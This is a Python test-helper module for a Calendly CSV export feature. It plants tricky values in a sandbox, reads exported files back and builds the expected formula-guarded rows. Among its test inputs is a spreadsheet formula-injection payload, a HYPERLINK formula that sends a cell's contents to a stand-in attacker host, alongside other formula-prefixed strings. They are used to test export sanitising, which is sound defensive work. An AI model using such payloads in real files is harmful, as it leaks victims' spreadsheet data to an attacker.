"""Awkward values planted in the sandbox's organization, and records read back through the
client: what the export tests feed the writers."""

from __future__ import annotations

import csv
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from desktop.api.client import CalendlyClient
from desktop.domain import Invitee, ScheduledEvent, uuid_of
from desktop.exports import Column, guard_cell
from desktop.sandbox import SandboxServer

# Text that breaks naive CSV and iCalendar writers, and text a spreadsheet would run.
COMMA_QUOTE = 'Doe, Jane "JJ"'
MULTILINE = "First line\nsecond line\r\nthird, with; semicolon \\ backslash"
NON_ASCII = "Zoë Ångström-Łukasiewicz 日本語 🎉"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
FORMULAS = ("+1 415 555 0100", "-2+3", "@SUM(A1:A9)", "\tindented", "\rreturned")


def plant(sandbox: SandboxServer, table: str, uri: str, **fields: Any) -> None:
    """Change stored fields of the record behind ``uri`` in the sandbox (its own database),
    as if someone had typed them into Calendly."""
    store = sandbox.state.store
    record = store.get(table, uuid_of(uri))
    assert record is not None, uri
    record.update(fields)
    store.update(table, record)


def read_csv(path: Path) -> list[list[str]]:
    """The rows of an exported file, as a spreadsheet app would read it."""
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark"
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def expected_rows(columns: Sequence[Column[Any]], records: Sequence[Any]) -> list[list[str]]:
    """What the file must hold: the header and every cell, formula-guarded."""
    rows = [[guard_cell(c.header) for c in columns]]
    rows += [[guard_cell(c.value(r)) for c in columns] for r in records]
    return rows


async def events_of(client: CalendlyClient, organization: str) -> list[ScheduledEvent]:
    return [e async for e in client.scheduled_events.iterate(organization=organization)]


async def invitees_of(
    client: CalendlyClient, events: Sequence[ScheduledEvent]
) -> dict[str, list[Invitee]]:
    return {
        event.uri: [i async for i in client.scheduled_events.iterate_invitees(event.uri)]
        for event in events
    }


def leftovers(folder: Path) -> list[str]:
    """Files in ``folder`` (a cancelled or failed export must leave none, temporary or not)."""
    return sorted(p.name for p in folder.iterdir())
